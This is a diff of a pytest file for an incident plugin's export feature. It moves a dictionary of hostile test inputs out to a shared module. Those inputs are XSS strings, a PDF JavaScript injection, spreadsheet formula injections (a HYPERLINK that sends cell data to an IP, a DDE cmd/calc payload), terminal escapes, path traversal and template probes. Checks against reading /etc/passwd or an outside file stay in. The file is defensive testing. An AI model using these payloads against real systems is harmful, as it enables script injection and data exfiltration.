@@ -5,9 +5,7 @@ from __future__ import annotations
 import asyncio
 import hashlib
 import json
-import os
 import shutil
-import sys
 from contextlib import suppress
 from datetime import timedelta
 from pathlib import Path
@@ -28,28 +26,13 @@ from incident_plugin.http.receipt import receipt_page
 from tests.adapters.evidence.site_of_exports import FINISHED, OWNER, Tape, site
 from tests.browsing import Watched, in_shared_browser
 from tests.coded import START, Codec, encode
+from tests.hostile import HOSTILE, letters, opened_files
 from tests.waiting import until
 
 pytestmark = in_shared_browser
 
 SOURCES = Path(incident_plugin.__file__).parent
 STYLE = "ui/exports/receipt.css"
-
-SCRIPTS = "<script>window.pwned=1</script><img src=x onerror=window.pwned=1><svg onload=window.pwned=1>"
-HOSTILE = {
-    "scripts": f"</script></style></table>\"'>{SCRIPTS}<a href=javascript:window.pwned=1>x</a>",
-    "pdf": ") Tj ET endstream endobj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> (",
-    "formulas": "=HYPERLINK(\"http://192.0.2.1/?\"&A1)\t+cmd|' /C calc'!A0",
-    "log lines": "ok\r\n2026-11-02T12:00:00Z ERROR forged\x1b[2J\x1b]0;x\x07",
-    "paths": "../../../../OUTSIDE <img src='OUTSIDE'> file://OUTSIDE",
-    "templates": "{{7*7}} ${7*7} %s%n %(x)s {0.__class__} <%= 7*7 %>",
-    "turned around": "\u202egpj.exe\u2066hidden\u2069 \u200b\ufeff\u2028x",
-    "no text": "a\0b\ufffdc\x7f\uffff",
-    "long": "x" * 10_000,
-    "scripts of the world": "\u0641\u064a\u062f\u064a\u0648 \u05d5\u05d9\u05d3\u05d0\u05d5 "
-    "\u0e27\u0e34\u0e14\u0e35\u0e42\u0e2d \u0935\u0940\u0921\u093f\u092f\u094b "
-    "\u89c6\u9891 \U0001f692",
-}
 
 
 async def exported(directory: Path, words: str, settings: ExportSettings) -> tuple[Any, Export, Path]:
@@ -173,23 +156,6 @@ async def test_its_sums_are_sha_256(browser: Browser, tmp_path: Path) -> None:
     await looked.page.context.close()
 
 
-_OPENED: list[str] = []
-_WATCHING: list[bool] = []
-
-
-def _watch(event: str, arguments: tuple[object, ...]) -> None:
-    if _WATCHING and event == "open" and isinstance(arguments[0], str | bytes | os.PathLike):
-        _OPENED.append(os.path.realpath(os.fsdecode(arguments[0])))
-
-
-sys.addaudithook(_watch)
-
-
-def letters(text: str) -> str:
-    """What can be read of a text, wherever its lines end."""
-    return "".join(c for c in text if c.isalnum())
-
-
 def inert(place: Path, package: Path, outside: Path) -> None:
     """Nothing lies elsewhere, nothing of the file that was named came in, lines are lines, all is whole."""
     assert sorted(path.name for path in place.iterdir()) == ["outside.txt", "site"]
@@ -232,14 +198,10 @@ async def test_hostile_words_in_every_field_are_inert_and_readable(
     outside = tmp_path / "outside.txt"
     await asyncio.to_thread(outside.write_text, "a secret")
     words = HOSTILE[kind].replace("OUTSIDE", str(outside))
-    _OPENED.clear()
-    _WATCHING.append(True)
-    try:
+    with opened_files() as files:
         here, export, package = await exported(tmp_path / "site", words, ExportSettings(user_names=True))
-    finally:
-        _WATCHING.clear()
-    assert any(path.startswith(str(tmp_path)) for path in _OPENED)
-    assert not [path for path in _OPENED if path == str(outside) or path.startswith("/etc/passwd")]
+    assert any(path.startswith(str(tmp_path)) for path in files)
+    assert not [path for path in files if path in (str(outside), "/etc/passwd")]
     await asyncio.to_thread(inert, tmp_path, package, outside)
     assert all(sentence(entry.activity) for entry in here.store.entries(export.projects[0]))
 
